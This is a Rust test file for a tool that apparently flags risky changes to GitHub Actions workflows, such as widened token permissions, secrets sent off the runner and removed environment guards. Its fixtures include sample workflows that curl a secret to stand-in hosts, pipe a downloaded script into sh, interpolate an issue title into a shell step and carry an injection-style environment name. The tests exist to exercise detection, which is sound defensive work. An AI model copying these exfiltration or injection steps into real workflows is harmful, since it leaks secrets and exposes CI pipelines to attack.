//! What must stay silent: other form with the same meaning, and ordinary work of bots.

use crate::rules_flows::shown::{CI, RULES, may, public, said_on, steps, table, verdicts};

#[test]
fn ordinary_work_is_not_worth_a_word() {
    let labels = "on: pull_request_target\npermissions: {contents: read, pull-requests: write}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@v5\n";
    let ci = "on: [push, pull_request]\npermissions: {contents: read}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with: {cache: npm}\n      - run: npm ci && npm test\n";
    let used = steps(
        "push",
        "- uses: octo-org/act@v1.2.3\n- uses: actions/checkout@v4\n- run: cargo test",
    );
    table(&[
        ("labels by a workflow that reads no contents", String::new(), labels.to_owned(), &[]),
        ("tests", String::new(), ci.to_owned(), &[]),
        (
            "an update by a dependency bot",
            used.clone(),
            used.replace("v1.2.3", "v1.2.4").replace("checkout@v4", "checkout@v5"),
            &[],
        ),
        (
            "a tool from the network in a job that holds nothing",
            String::new(),
            steps("push", "- run: curl -sSf https://sh.rustup.invalid | sh"),
            &[],
        ),
        ("less than before", may(&used, "contents: write"), used, &[]),
    ]);
}

#[test]
fn another_form_of_the_same_grants_nothing() {
    let block = "on:\n  issues:\n    types: [opened]\npermissions:\n  contents: write\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\" && curl -d \"$K\" https://x.invalid/\n        env:\n          K: ${{ secrets.KEY }}\n";
    let flow = "# triage\non: {issues: {types: ['opened']}}\njobs:\n  build:\n    steps:\n      - env: {K: '${{secrets.KEY}}'}\n        run: 'echo \"${{ github.event.issue.title }}\" && curl -d \"$K\" https://x.invalid/'\n    runs-on: 'ubuntu-latest'\npermissions: {contents: write}\n";
    table(&[
        ("as flow", block.to_owned(), flow.to_owned(), &[]),
        ("as block", flow.to_owned(), block.to_owned(), &[]),
    ]);
    let moved = said_on(&public(), &[(CI, block)], &[(".github/workflows/triage.yml", block)]);
    assert_eq!(moved, Vec::<String>::new(), "a file with another name");
    assert!(!said_on(&public(), &[], &[(CI, block)]).is_empty(), "it does grant");
}

#[test]
fn jobs_of_which_the_same_is_said_are_one_sentence() {
    let job = |id: &str, may: &str| {
        format!(
            "  {id}:\n    runs-on: ubuntu-latest\n    permissions: {{{may}}}\n    steps:\n      - uses: octo-org/build@v1\n"
        )
    };
    let writes = "contents: write";
    let head = format!(
        "on: push\njobs:\n{}{}{}",
        job("linux", writes),
        job("mac", writes),
        job("pages", "pages: write")
    );
    assert_eq!(
        said_on(&public(), &[], &[(CI, &head)]),
        [
            "medium token-widened ci.yml:5 People who may push can set off the jobs `linux` and `mac`, whose token now has `contents: write`.",
            "medium third-party-action-receives ci.yml:7 The action `octo-org/build` is held to a tag, which its owner can move, and works with `contents: write` in the jobs `linux` and `mac`.",
            "medium token-widened ci.yml:15 People who may push can set off the job `pages`, whose token now has `pages: write`.",
            "medium third-party-action-receives ci.yml:17 The action `octo-org/build` is held to a tag, which its owner can move, and works with `pages: write` in the job `pages`.",
        ]
    );
    let more = head.replace("{pages: write}", "{pages: write, packages: write}");
    let said = said_on(&public(), &[(CI, &head)], &[(CI, &more)]);
    assert_eq!(
        said[0],
        "high token-widened ci.yml:15 People who may push can set off the job `pages`, whose token now has `packages: write`.",
        "only what is new: {said:#?}"
    );
}

#[test]
fn another_environment_of_a_job_does_not_tell_all_of_it_again() {
    let text = steps(
        "pull_request_target",
        "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha }}'}\n- run: make\n  env: {K: '${{ secrets.KEY }}'}",
    );
    let inside =
        |name: &str| text.replace("    steps", &format!("    environment: {name}\n    steps"));
    let said = said_on(&public(), &[(CI, &inside("preview"))], &[(CI, &inside("docs-preview"))]);
    let rules: Vec<_> = said.iter().map(|line| line.split(' ').nth(1).unwrap()).collect();
    assert_eq!(rules, ["environment-guard-removed"], "{said:#?}");
}

#[test]
fn a_comment_in_a_file_that_runs_before_it_is_merged_is_no_news() {
    let ci = steps(
        "pull_request_target",
        "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha }}'}\n- run: ./check.sh\n  env: {K: '${{ secrets.KEY }}'}",
    );
    let said = |base: &str, head: &str| {
        let of = |text| [(CI, ci.as_str()), ("check.sh", text)].map(|it| it);
        said_on(&public(), &of(base), &of(head)).len()
    };
    for (what, base, head, count) in [
        ("a licence", "#!/bin/sh\nmake\n", "#!/bin/sh\n# Copyright\n\nmake\n", 0),
        ("another licence", "# 2025\nmake\n", "  # 2026\nmake\n", 0),
        ("an order", "# 2025\nmake\n", "# 2025\nmake all\n", 1),
        ("what reads it", "#!/bin/sh\nmake\n", "#!/usr/bin/env perl\nmake\n", 1),
        ("a text that only looks like one", "sh <<E\n# a\nE\n", "sh <<E\n# b\nE\n", 1),
        ("an end of a line", "make # all\n", "make # none\n", 1),
    ] {
        assert_eq!(said(base, head), count, "{what}");
    }
}

#[test]
fn foreign_text_does_not_act_in_a_sentence() {
    let hostile = "on: push\npermissions: {}\njobs:\n  build:\n    environment: '@acme/everyone ![x](http://x.invalid/)'\n    runs-on: ubuntu-latest\n    steps:\n      - run: x\n        env: {K: '${{ secrets.KEY }}'}\n";
    let found = verdicts(&public(), &[], &[(CI, hostile)]);
    let message = &found[0].message;
    for part in ["@acme", "![x]", "](http", "http://"] {
        assert!(!message.contains(part), "{part}: {message}");
    }
    let said = said_on(&public(), &[], &[(CI, hostile)]);
    assert!(said[0].contains("`@acme/everyone ![x](http://x.invalid/)`"), "readable: {said:#?}");
}

#[test]
fn a_new_agent_is_left_to_the_rules_about_agents() {
    let agent = "- uses: anthropics/claude-code-action@v1\n  with:\n    anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}\n    allowed_non_write_users: '*'";
    let triage = may(&steps("issues", agent), "contents: write, id-token: write");
    table(&[("an agent that anyone can drive", String::new(), triage, &[])]);
}

#[test]
fn every_rule_of_the_group_is_there_once_with_its_page() {
    for id in RULES {
        let found: Vec<_> = beholden::rules::files::all().filter(|rule| rule.id == *id).collect();
        assert_eq!(found.len(), 1, "{id}");
        let rule = found[0];
        assert!(rule.docs.starts_with(&format!("# {}\n", rule.title)), "{id}: {}", rule.title);
        for heading in ["What it finds", "Why it matters", "What to do", "How to accept it"] {
            assert!(rule.docs.contains(&format!("## {heading}\n")), "{id}: {heading}");
        }
        assert!(!rule.tags.is_empty(), "{id}");
    }
}

#[test]
fn what_workflows_share_is_said_once_at_its_own_line() {
    let shared = "name: Ask\ndescription: asks\ninputs: {key: {description: a key}}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env: {KEY: '${{ inputs.key }}'}\n      run: |\n        curl -d \"$KEY\" \"https://$PLACE/x\"\n";
    let caller = |job: &str| {
        let use_it = "- uses: actions/checkout@v4\n- uses: ./.github/actions/ask\n  with: {key: '${{ secrets.ASK }}'}";
        steps("push", use_it).replace("build:", &format!("{job}:"))
    };
    let said = |jobs: [&str; 2]| {
        let [a, b] = jobs.map(caller);
        let head = [
            (".github/actions/ask/action.yml", shared),
            (".github/workflows/a.yml", a.as_str()),
            (".github/workflows/b.yml", b.as_str()),
        ];
        let said = said_on(&public(), &[], &head);
        said.into_iter().filter(|it| it.contains("secret-leaves")).collect::<Vec<_>>()
    };
    let sends = |who: &str, verb: &str| {
        format!(
            "high secret-leaves action.yml:10 People who may push can set off {who}, which {verb} the secret `ASK` to a host that is computed."
        )
    };
    assert_eq!(said(["ask", "ask"]), [sends("the job `ask` of 2 workflows", "sends")]);
    let each = [sends("the job `ask`", "sends"), sends("the job `tell`", "sends")];
    assert_eq!(said(["ask", "tell"]), each);
}
